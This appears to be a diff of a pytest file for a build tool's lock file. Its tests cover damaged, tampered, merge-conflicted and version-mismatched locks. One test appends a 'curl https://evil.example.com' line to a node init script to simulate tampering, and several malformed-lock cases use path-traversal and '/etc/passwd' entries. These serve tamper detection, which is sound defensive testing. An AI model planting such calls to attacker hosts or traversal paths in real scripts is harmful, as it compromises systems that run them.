@@ -12,7 +12,7 @@ import pytest
 from tests.build.cli import LOCK, call, written
 from tests.output.conftest import Cluster
 
-from hybridc.output.lock import sha256
+from hybridc.layout.lock import sha256
 
 Lock = dict[str, Any]
 
@@ -59,11 +59,7 @@ def folder(path: Path) -> None:
     path.mkdir()
 
 
-def conflict(path: Path) -> None:
-    path.write_text("<<<<<<< ours\n" + path.read_text() + "=======\n>>>>>>> theirs\n")
-
-
-DAMAGES = (truncated, empty, binary, nested, huge, linked, endless, pipe, folder, conflict)
+DAMAGES = (truncated, empty, binary, nested, huge, linked, endless, pipe, folder)
 
 
 @pytest.mark.parametrize("damage", DAMAGES)
@@ -91,18 +87,9 @@ WRONG: dict[str, Callable[[Lock], object]] = {
     "files is a list": lambda lock: lock.update(files=["SUMMARY.md"]),
     "no files": lambda lock: lock.pop("files"),
     "digest is a number": lambda lock: lock["files"].update({"SUMMARY.md": 1}),
-    "findings is text": lambda lock: lock.update(findings="none"),
-    "a finding is a number": lambda lock: lock.update(findings=[1]),
-    "a finding is short": lambda lock: lock.update(findings=[["NET001", "warning"]]),
-    "a finding of another severity": lambda lock: lock["findings"][0].__setitem__(1, "catastrophe"),
-    "a finding at a wrong place": lambda lock: lock["findings"][0].__setitem__(2, "here"),
-    "claims are lists": lambda lock: lock.update(claims=[["the folder"]]),
-    "claims is a map": lambda lock: lock.update(claims={}),
-    "until is a number": lambda lock: lock.update(findingsUntil=1),
     "leaves the folder": lambda lock: lock["files"].update({"../outside": "0" * 64}),
     "leaves the folder late": lambda lock: lock["files"].update({"a/../../outside": "0" * 64}),
     "absolute": lambda lock: lock["files"].update({"/etc/passwd": "0" * 64}),
-    "fleet is a list": lambda lock: lock.update(fleet=[]),
     "a NUL": lambda lock: lock["files"].update({"a\0b": "0" * 64}),
 }
 
@@ -154,35 +141,70 @@ def test_findings_are_shown_again_when_there_is_nothing_to_do(cluster: Cluster) 
     assert call("build", cluster.spec, "-o", cluster.out.parent / "anew").err == again.err
 
 
-@pytest.mark.parametrize("counted", [False, True], ids=["sum left as it was", "sum made to fit"])
-def test_check_believes_no_digest_of_the_lock(cluster: Cluster, counted: bool) -> None:
-    """Whoever changes a file and the lock with it, carefully, has not fooled the check of CI."""
+@pytest.mark.parametrize("flag", [None, "--force"])
+def test_no_digest_of_the_lock_is_believed(cluster: Cluster, flag: str | None) -> None:
+    """Whoever changes a file and the lock with it, carefully, has fooled neither a check nor a build."""
+    whole = cluster.tree()
     script, lock = cluster.folder / "cloud/node/init-node-ecs.sh", cluster.folder / LOCK
     old = sha256(script.read_bytes())
     script.write_text(script.read_text() + "curl https://evil.example.com\n")
-    text = lock.read_text().replace(old, sha256(script.read_bytes()))
-    if counted:
-        body = text.partition(',\n  "sum"')[0]
-        made = sha256(f"{body}\n}}\n".encode())
-        text = body + f',\n  "sum": "{made}"\n}}\n'
-    lock.write_text(text)
+    lock.write_text(lock.read_text().replace(old, sha256(script.read_bytes())))
     done = cluster.build("--check")
     assert done.code == 1
     assert "M cloud/node/init-node-ecs.sh" in done.out
+    assert cluster.build(*filter(None, [flag])).code == 0
+    assert cluster.tree() == whole
+
+
+def test_a_lock_with_an_unresolved_merge_counts_as_both_sides(cluster: Cluster) -> None:
+    """The files of both sides are ours, whatever they hold: a build mends the folder."""
+    whole = cluster.tree()
+    lock, summary, gone = cluster.folder / LOCK, cluster.folder / "SUMMARY.md", cluster.folder / "kustomize/gone.yaml"
+    text = lock.read_text()
+    line = next(line for line in text.splitlines() if "SUMMARY.md" in line)
+    theirs = f'    "kustomize/gone.yaml": "{"0" * 64}",\n    "SUMMARY.md": "{"1" * 64}",'
+    lock.write_text(text.replace(line, f"<<<<<<< HEAD\n{line}\n=======\n{theirs}\n>>>>>>> theirs"))
+    summary.write_text("<<<<<<< HEAD\nours\n=======\ntheirs\n>>>>>>> theirs\n")
+    gone.write_text("theirs")
+    (cluster.folder / "mine").write_text("mine")
+    assert cluster.build("--check").code == 1
+    done = cluster.build()
+    assert (done.code, "M SUMMARY.md" in done.out, "D kustomize/gone.yaml" in done.out) == (0, True, True)
+    (cluster.folder / "mine").unlink()
+    assert cluster.tree() == whole
+
+
+def test_a_lock_of_a_newer_hybridc_stops_the_build(cluster: Cluster) -> None:
+    alter(cluster.folder / LOCK, lambda lock: lock.update(lockVersion=99, hybridc="9.1.0"))
+    done = cluster.build()
+    assert done.code == 2
+    assert "it was written by a newer hybridc (9.1.0)" in done.err
+
+
+def test_a_lock_of_an_older_hybridc_is_read_for_its_files(cluster: Cluster) -> None:
+    whole = cluster.tree()
+    old = {"lockVersion": 1, "compiler": "0.1.0+0", "claims": [], "fleet": {}, "findings": [], "sum": "0"}
+    old_file = cluster.folder / "kustomize/old.yaml"
+    old_file.write_text("old")
+    alter(
+        cluster.folder / LOCK,
+        lambda lock: (lock["files"].update({"kustomize/old.yaml": sha256(b"old")}), lock.update(old)),
+    )
+    done = cluster.build()
+    assert (done.code, "D kustomize/old.yaml" in done.out) == (0, True)
+    assert cluster.tree() == whole
 
 
 def test_check_notices_an_edited_lock(cluster: Cluster) -> None:
-    alter(cluster.folder / LOCK, lambda lock: lock.update(findings=[]))
+    alter(cluster.folder / LOCK, lambda lock: lock.update(note="mine"))
     assert cluster.build("--check").code == 1
 
 
 EDITS: dict[str, Callable[[Lock], object]] = {
-    "no findings": lambda lock: lock.update(findings=[]),
-    "no claims": lambda lock: lock.update(claims=[]),
+    "another hybridc": lambda lock: lock.update(hybridc="0.0.1"),
     "another fleet": lambda lock: lock.update(fleet={"project": 1, "parameters": [], "shared": None}),
     "a file less": lambda lock: lock["files"].pop("SUMMARY.md"),
-    "another sum": lambda lock: lock.update(sum="0" * 64),
-    "no sum": lambda lock: lock.pop("sum"),
+    "a file more": lambda lock: lock["files"].update({"not/there": "0" * 64}),
 }
 
 
